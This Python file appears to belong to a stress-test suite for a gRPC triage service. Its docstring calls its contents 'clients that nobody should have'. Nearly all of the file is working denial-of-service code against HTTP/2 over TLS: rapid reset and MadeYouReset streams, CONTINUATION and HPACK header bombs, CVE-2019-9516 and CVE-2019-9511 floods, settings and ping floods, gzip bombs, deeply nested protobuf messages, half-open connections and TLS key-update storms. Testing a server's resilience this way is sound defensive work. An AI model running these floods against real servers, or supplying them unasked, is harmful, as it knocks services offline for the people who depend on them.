"""Clients that nobody should have: raw HTTP/2 frames over real TLS, one function an attack.

Run as a process of its own, so that it does not slow down whoever measures the server meanwhile:
python attacks.py NAME HOST:PORT CERTS IDENTITY SECONDS
"""

import contextlib
import gzip
import pathlib
import select
import socket
import ssl
import struct
import subprocess
import sys
import time
import uuid

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def text(value):
    rest = len(value) - 127
    if rest < 0:
        return bytes([len(value)]) + value
    length = [127]
    while rest >= 128:
        length.append(rest & 127 | 128)
        rest >>= 7
    return bytes([*length, rest]) + value


def literals(*fields, kind=0):
    return b"".join(bytes([kind]) + text(name.encode()) + text(value.encode())
                    for name, value in fields)


def request(path, *more):
    return literals((":method", "POST"), (":scheme", "https"), (":path", path),
                    (":authority", "localhost"), ("te", "trailers"),
                    ("content-type", "application/grpc"), *more)


STATUS = request("/triaged.v1.OperationsService/GetStatus")
LIST = request("/triaged.v1.TriageService/ListCases")
WATCH = request("/triaged.v1.TriageService/WatchBoard")
HEALTH = request("/grpc.health.v1.Health/Watch")
REPORT = request("/triaged.v1.TriageService/SubmitReport")
CLAIM = request("/triaged.v1.AssignmentService/ClaimNext")
REFLECTION = request("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
EMPTY = b"\0\0\0\0\0"
# page_size (field 1) = 1000
PAGE = b"\0\0\0\0\3" + b"\x08\xe8\x07"


class Peer:
    """One connection; writes what the socket takes and never waits for the server."""

    def __init__(self, target, settings=b"", handshake=True):
        self.stream, self.gone = 1, False
        self.waiting, self.came = b"", b""
        self.socket = socket.socket()
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 10)
        self.socket.settimeout(20)
        self.socket.connect(target.address)
        if handshake:
            self.socket = target.context.wrap_socket(self.socket, server_hostname="localhost")
            self.send(PREFACE + frame(SETTINGS, payload=settings) + frame(SETTINGS, END_STREAM))
        self.socket.setblocking(False)

    def open(self, block, flags=END_HEADERS):
        """The frame that opens the next stream."""
        self.stream += 2
        return frame(HEADERS, flags, self.stream, block)

    def send(self, data):
        """True while the connection lives; what the socket does not take now is kept."""
        self.waiting += data
        while self.waiting and not self.gone:
            try:
                count = self.socket.send(self.waiting[:16_384])
                self.waiting = self.waiting[count:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                break
            except OSError:
                self.gone = True
        return not self.gone

    @property
    def is_full(self):
        return len(self.waiting) > 65_536

    def read(self):
        """Throws away what came."""
        with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError):
            try:
                while True:
                    if not self.socket.recv(65_536):
                        self.gone = True
                        return
            except (ssl.SSLWantReadError, BlockingIOError):
                raise
            except OSError:
                self.gone = True

    def count_ends(self):
        """Takes what came; how many streams ended with it."""
        try:
            while piece := self.socket.recv(65_536):
                self.came += piece
            self.gone = True
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        except OSError:
            self.gone = True
        ends, at = 0, 0
        while len(self.came) - at >= 9:
            head, flags = struct.unpack_from(">IB", self.came, at)
            if len(self.came) - at < 9 + (head >> 8):
                break
            ends += head & 0xFF in (DATA, HEADERS) and flags & END_STREAM
            at += 9 + (head >> 8)
        self.came = self.came[at:]
        return ends

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.close()


class Target:
    def __init__(self, address, certs, identity, seconds):
        host, port = address.split(":")
        self.address, self.end = (host, int(port)), time.monotonic() + seconds
        self.certs = certs = pathlib.Path(certs)
        self.identity = identity
        self.context = ssl.create_default_context(cafile=certs / "ca.crt")
        self.context.load_cert_chain(certs / f"{identity}.crt", certs / f"{identity}.key")
        self.context.set_alpn_protocols(["h2"])

    @property
    def goes_on(self):
        return time.monotonic() < self.end


def flood(target, make, reads=True, settings=b"", start=lambda peer: b""):
    """Sends what `make(peer)` gives as fast as it is taken, over a new connection each time."""
    while target.goes_on:
        peer = Peer(target, settings)
        peer.send(start(peer))
        while target.goes_on and not peer.gone:
            if not peer.is_full:
                peer.send(make(peer))
            else:
                select.select([], [peer.socket], [], 0.01)
                peer.send(b"")
            if reads:
                peer.read()
        peer.close()


def rapid_reset(target):
    def burst(peer):
        return b"".join(peer.open(REPORT) + frame(DATA, 0, peer.stream, EMPTY)
                        + frame(RESET, 0, peer.stream, struct.pack(">I", 8)) for _ in range(20))
    flood(target, burst)


def made_you_reset(target):
    def burst(peer):
        return b"".join(peer.open(STATUS) + frame(WINDOW, 0, peer.stream, b"\x7f\xff\xff\xff")
                        for _ in range(10))
    flood(target, burst)


def continuations(target):
    flood(target, lambda peer: frame(CONTINUATION, 0, peer.stream),
          start=lambda peer: peer.open(STATUS, 0))


def header_bomb(target):
    """A thousand references to one entry of the dynamic table."""
    block = STATUS + literals(("cookie", "a" * 3_000), kind=0x40) + b"\xbe" * 1_000
    flood(target, lambda peer: peer.open(block))


def crumbs(target):
    """Just over the limit of fields, so that each is answered; nothing of it is read."""
    block = STATUS + literals(*[("cookie", "a=b")] * 95)
    flood(target, lambda peer: peer.open(block, END_HEADERS | END_STREAM), reads=False)


def half_headers(target):
    """As many connections as there may be, each in the middle of a header block."""
    peers = [Peer(target) for _ in range(60)]
    for peer in peers:
        peer.send(peer.open(STATUS[:20], 0))
    while target.goes_on:
        time.sleep(0.05)


def settings_flood(target):
    flood(target, lambda peer: frame(SETTINGS) * 20, reads=False)


def ping_flood(target):
    flood(target, lambda peer: frame(PING, payload=b"12345678") * 5)


def empty_data(target):
    flood(target, lambda peer: frame(DATA, 0, peer.stream) * 20,
          start=lambda peer: peer.open(STATUS))


def priorities(target):
    flood(target, lambda peer: frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 50)


def window_updates(target):
    flood(target, lambda peer: frame(WINDOW, 0, 0, b"\0\0\0\1") * 50)


def unread_pages(target):
    """Whole pages of the board, and no window for any of them."""
    peers = [Peer(target, struct.pack(">HI", 4, 0)) for _ in range(8)]
    for peer in peers:
        for _ in range(100):
            peer.send(peer.open(LIST) + frame(DATA, END_STREAM, peer.stream, PAGE))
    while target.goes_on:
        for peer in peers:
            peer.send(b"")
            peer.read()
        time.sleep(0.01)


def page_storm(target):
    """Whole pages of the board, as many at once as there may be, and read."""
    window = struct.pack(">HI", 4, 0x7FFF_FFFF)
    peers = [Peer(target, window) for _ in range(20)]
    for peer in peers:
        peer.send(frame(WINDOW, 0, 0, b"\x7f\xff\0\0"))
        for _ in range(99):
            peer.send(peer.open(LIST) + frame(DATA, END_STREAM, peer.stream, PAGE))
    while target.goes_on:
        select.select([peer.socket for peer in peers if not peer.gone], [], [], 0.05)
        for peer in peers:
            peer.read()
            peer.send(b"")


def unfinished_bodies(target):
    """Requests that stop just before their end."""
    peers = [Peer(target) for _ in range(4)]
    for peer in peers:
        peer.send(frame(WINDOW, 0, 0, b"\0\0\0\1"))
    while target.goes_on:
        for peer in peers:
            if peer.gone or peer.is_full or peer.stream > 150:
                peer.send(b"")
                peer.read()
                continue
            body = b"\0" + struct.pack(">I", 1_000_000) + b"\0" * 900_000
            peer.send(peer.open(REPORT) + b"".join(
                frame(DATA, 0, peer.stream, body[at:at + 16_384])
                for at in range(0, len(body), 16_384)))
        time.sleep(0.005)


def handshakes(target):
    """Connections whose only purpose is their handshake."""
    while target.goes_on:
        with contextlib.suppress(OSError):
            Peer(target).close()


def silent_handshakes(target):
    """As many connections as there may be that never say anything."""
    peers = []
    while target.goes_on:
        with contextlib.suppress(OSError):
            peers.append(Peer(target, handshake=False))
        if len(peers) > 300:
            peers.pop(0).close()


def unread_output(target):
    """Pages for which there is window enough, on a socket that is never read."""
    def pages(peer):
        return frame(WINDOW, 0, 0, b"\x7f\xff\0\0") + b"".join(
            peer.open(LIST) + frame(DATA, END_STREAM, peer.stream, PAGE) for _ in range(80))
    # Frames of a type that nobody knows keep the server reading as long as it wants to.
    flood(target, lambda peer: frame(0xBA, payload=b"x" * 100) * 20, reads=False,
          settings=struct.pack(">HI", 4, 0x7FFF_FFFF), start=pages)


def storm_of_calls(target):
    """The cheapest call there is, on as many streams and connections as there may be."""
    peers = [Peer(target) for _ in range(32)]
    while target.goes_on:
        for peer in peers:
            if not peer.gone and not peer.is_full:
                peer.send(b"".join(
                    peer.open(STATUS) + frame(DATA, END_STREAM, peer.stream, EMPTY)
                    for _ in range(10)))
            peer.read()


def zero_length_headers(target):
    """CVE-2019-9516: fields without a name."""
    block = STATUS + literals(*[("", "")] * 20)
    flood(target, lambda peer: b"".join(peer.open(block) for _ in range(10)))


def padding(target):
    """DATA that is padding and nothing else, as long as a frame may be."""
    flood(target, lambda peer: frame(DATA, 8, peer.stream, b"\xff" + b"\0" * 255) * 20,
          start=lambda peer: peer.open(STATUS))


def dribble(target):
    """CVE-2019-9511: whole pages, asked for byte by byte."""
    peers = [Peer(target, struct.pack(">HI", 4, 1)) for _ in range(8)]
    for peer in peers:
        for _ in range(99):
            peer.send(peer.open(LIST) + frame(DATA, END_STREAM, peer.stream, PAGE))
    while target.goes_on:
        for peer in peers:
            if not peer.is_full:
                peer.send(b"".join(frame(WINDOW, 0, stream, b"\0\0\0\1")
                                   for stream in range(3, peer.stream + 2, 2)))
            peer.read()


def tiny_records(target):
    """A TLS record for each byte."""
    peers = [Peer(target) for _ in range(8)]
    while target.goes_on:
        for peer in peers:
            call = peer.open(STATUS) + frame(DATA, END_STREAM, peer.stream, EMPTY)
            for at in range(len(call)):
                if peer.gone or peer.is_full:
                    break
                peer.send(call[at:at + 1])
            peer.read()


def message(body, compressed=0):
    return bytes([compressed]) + struct.pack(">I", len(body)) + body


def bodies(target, body, *more, compressed=0):
    """The same request again and again, on a few connections at once."""
    data = message(body, compressed)
    head = request("/triaged.v1.TriageService/SubmitReport", *more)

    def call(peer):
        return peer.open(head) + b"".join(
            frame(DATA, END_STREAM if at + 16_384 >= len(data) else 0, peer.stream,
                  data[at:at + 16_384]) for at in range(0, len(data), 16_384))
    flood(target, call)


def gzip_bomb(target):
    bodies(target, gzip.compress(b"\0" * (1 << 20)), ("grpc-encoding", "gzip"), compressed=1)


def tiny_fields(target):
    """As many empty texts as a message has room for: protobuf-c would make 28 times as much."""
    # Report (field 2) with evidence_uris (field 14) of no bytes.
    report = b"\x72\0" * 400_000
    size = len(report)
    bodies(target, b"\x12" + bytes([size & 127 | 128, size >> 7 & 127 | 128, size >> 14])
           + report)


def unknown_fields(target):
    """A few fields that nobody knows, as large as a message may be."""
    bodies(target, (b"\xfa\x7f\x80\x80\4" + b"\0" * 65_536) * 15)


def deep_messages(target):
    """A message in a message in a message: the schema has no such type, so all of it is skipped."""
    body = b""
    for _ in range(2_000):
        size, length = len(body), b""
        while size >= 128:
            length, size = length + bytes([size & 127 | 128]), size >> 7
        body = b"\x12" + length + bytes([size]) + body
    bodies(target, body)


def many_connections(target):
    """More than one identity may have, all of them kept."""
    peers = []
    while target.goes_on:
        with contextlib.suppress(OSError):
            peers.append(Peer(target))
        for peer in peers[-80:]:
            peer.read()
        peers = [peer for peer in peers if not peer.gone]


def strangers(target):
    """Health watches without a certificate, more than a door has room for, all of them kept."""
    target.context = ssl.create_default_context(cafile=target.certs / "ca.crt")
    target.context.set_alpn_protocols(["h2"])
    peers = []
    while target.goes_on:
        with contextlib.suppress(OSError):
            peer = Peer(target)
            peer.send(peer.open(HEALTH) + frame(DATA, END_STREAM, peer.stream, EMPTY))
            peers.append(peer)
        for peer in peers:
            peer.read()
        peers = [peer for peer in peers if not peer.gone]


def watches(target):
    """As many watches of the board as there may be, and more; nothing of them is read."""
    peers = [Peer(target, struct.pack(">HI", 4, 1)) for _ in range(30)]
    for peer in peers:
        for _ in range(25):
            peer.send(peer.open(WATCH) + frame(DATA, END_STREAM, peer.stream, EMPTY))
    while target.goes_on:
        for peer in peers:
            peer.read()
            peer.send(b"")
        time.sleep(0.01)


def nobodys_methods(target):
    """Calls of what is not there, and requests that are no calls: refused, but not for nothing."""
    gone = request("/no.such.Service/Method")
    page = literals((":method", "GET"), (":scheme", "https"), (":path", "/"),
                    (":authority", "localhost"))
    flood(target, lambda peer: b"".join(
        peer.open(block, END_HEADERS | END_STREAM) for block in (gone, page) * 10))


def every_stream(peers, make):
    """As many streams as these connections may have open, each with what `make(peer)` says."""
    for peer in peers:
        peer.send(b"".join(make(peer) for _ in range(99)))


def waiting_claims(target):
    """Claims of somebody whom nothing is for, all that may wait; and again, when all have."""
    # request_id (field 1), wait_duration (field 2) of 50 s.
    def claim(peer):
        body = b"\x0a\x24" + str(uuid.uuid4()).encode() + b"\x12\2\x08\x32"
        return peer.open(CLAIM) + frame(DATA, END_STREAM, peer.stream, message(body))

    while target.goes_on:
        peers = [Peer(target) for _ in range(30)]
        every_stream(peers, claim)
        for _ in range(20):
            for peer in peers:
                peer.send(b"")
                peer.read()
            time.sleep(0.01)
        for peer in peers:
            peer.close()


def reflection(target):
    """Questions of a few bytes with answers of many, on all streams; none of them is read."""
    symbol = b"triaged.v1.TriageService"
    question = message(b"\x22" + bytes([len(symbol)]) + symbol)
    peers = [Peer(target, struct.pack(">HI", 4, 0)) for _ in range(20)]
    every_stream(peers, lambda peer: peer.open(REFLECTION) + frame(
        DATA, 0, peer.stream, question * 20))
    while target.goes_on:
        for peer in peers:
            peer.read()
            peer.send(b"")
        time.sleep(0.01)


def storm_of_reports(target):
    """Reports that are as they should be, as fast as they are taken."""
    # request_id (1), report (2): subject (4) of kind (1) and id (2), harm_family (6), reporter (9).
    def report(peer):
        subject = b"\x08\2\x12\x0apost:%05d" % (peer.stream // 1_000 % 100_000)
        body = b"\x22" + bytes([len(subject)]) + subject + b"\x30\1\x4a\2\x08\2"
        body = b"\x0a\x24" + str(uuid.uuid4()).encode() + b"\x12" + bytes([len(body)]) + body
        return peer.open(REPORT) + frame(DATA, END_STREAM, peer.stream, message(body))

    peers = [Peer(target) for _ in range(16)]
    waiting = dict.fromkeys(peers, 0)
    while target.goes_on:
        for peer in peers:
            waiting[peer] -= peer.count_ends()
            if not peer.gone and not peer.is_full:
                more = 99 - waiting[peer]
                peer.send(b"".join(report(peer) for _ in range(more)))
                waiting[peer] += more


def key_updates(target):
    """Only OpenSSL's own client can ask for them."""
    host, port = target.address
    while target.goes_on:
        client = subprocess.Popen(
            ["openssl", "s_client", "-connect", f"{host}:{port}", "-alpn", "h2", "-CAfile",
             target.certs / "ca.crt", "-cert", target.certs / f"{target.identity}.crt", "-key",
             target.certs / f"{target.identity}.key"],
            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        with contextlib.suppress(BrokenPipeError):
            # A slow machine takes its time to connect: it goes on until the server ends it.
            for _ in range(600):
                if not target.goes_on:
                    break
                # A line of its own is a command.
                client.stdin.write(b"k\n")
                client.stdin.flush()
                time.sleep(0.003)
        client.kill()
        client.wait()


if __name__ == "__main__":
    name, *where, seconds = sys.argv[1:]
    globals()[name](Target(*where, float(seconds)))
